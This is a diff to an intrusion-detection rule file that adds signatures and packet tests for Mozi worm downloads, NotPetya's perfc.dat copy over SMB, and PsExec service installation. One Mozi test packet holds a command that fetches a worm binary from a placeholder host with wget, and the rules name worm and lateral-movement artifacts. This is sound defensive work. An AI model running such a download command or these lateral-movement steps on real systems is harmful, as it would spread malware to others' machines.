@@ -466,3 +466,69 @@ test "honest traffic" {
   pcap "captures/nmap-os.pcap"
   expect none
 }
+
+// Further worms, each with its tests --------------------------------------------------------------------------------
+
+/// Mozi's program for one processor or another, fetched from whichever infected device tells a router to, or the command that says so.
+signature mozi_download {
+  id       1000216
+  title    "Mozi: download"
+  severity critical
+  class    worm
+  ref      url "https://blog.netlab.360.com/mozi-another-botnet-using-dht/"
+  ref      mitre "T1105"
+  when     tcp and (payload contains "/Mozi.m" in 0..1023 or payload contains "/Mozi.a" in 0..1023)
+  then     log, drop
+}
+test "fetched, and told to fetch" {
+  packet { ipv4  tcp { dst_port 41000  payload "GET /Mozi.m HTTP/1.0\r\n" } }
+  packet { ipv4  tcp { dst_port 23  payload "wget http://198.51.100.9:41000/Mozi.a -O /tmp/x\n" } }
+  expect mozi_download * 2, verdict drop
+}
+test "near miss: a browser's page, UDP" {
+  packet { ipv4  tcp { dst_port 80  payload "GET /blog/mozilla HTTP/1.1\r\n" } }
+  packet { ipv4  udp { dst_port 80  payload "GET /Mozi.m" } }
+  expect none
+}
+
+/// The name under which the worm writes itself to the Windows folder of the next host, in UTF-16.
+signature notpetya_copy {
+  id       1000217
+  title    "NotPetya: copy to another host"
+  severity critical
+  class    worm
+  ref      cert "TA17-181A"
+  ref      mitre "T1021.002"
+  when     tcp.dst_port in { 139, 445 } and payload contains hex"70 00 65 00 72 00 66 00 63 00 2e 00 64 00 61 00 74 00" nocase
+  then     log, drop
+}
+test "perfc.dat" {
+  packet { ipv4  tcp { dst_port 445  payload hex"00 00 00 80 fe 53 4d 42 70 00 65 00 72 00 66 00 63 00 2e 00 64 00 61 00 74 00" } }
+  expect notpetya_copy, verdict drop
+}
+test "near miss: perfh.dat, which is Windows' own, and another service" {
+  packet { ipv4  tcp { dst_port 445  payload hex"00 00 00 80 fe 53 4d 42 70 00 65 00 72 00 66 00 68 00 2e 00 64 00 61 00 74 00" } }
+  packet { ipv4  tcp { dst_port 80  payload hex"70 00 65 00 72 00 66 00 63 00 2e 00 64 00 61 00 74 00" } }
+  expect none
+}
+
+/// The name of the service by which PsExec runs programs elsewhere, in UTF-16: NotPetya and others bring it along. Logged only: it is an administrator's tool.
+signature psexec_service {
+  id       1000218
+  title    "PsExec: its service is installed"
+  severity medium
+  class    worm
+  ref      mitre "T1569.002"
+  ref      cert "TA17-181A"
+  when     tcp.dst_port in { 139, 445 } and payload contains hex"50 00 53 00 45 00 58 00 45 00 53 00 56 00 43 00" nocase
+  then     log
+}
+test "PSEXESVC" {
+  packet { ipv4  tcp { dst_port 445  payload hex"00 00 00 80 fe 53 4d 42 50 00 53 00 45 00 58 00 45 00 53 00 56 00 43 00" } }
+  expect psexec_service, verdict accept
+}
+test "near miss: another pipe, and another service" {
+  packet { ipv4  tcp { dst_port 445  payload hex"00 00 00 80 fe 53 4d 42 73 00 70 00 6f 00 6f 00 6c 00 73 00 73 00" } }
+  packet { ipv4  tcp { dst_port 80  payload hex"50 00 53 00 45 00 58 00 45 00 53 00 56 00 43 00" } }
+  expect none
+}
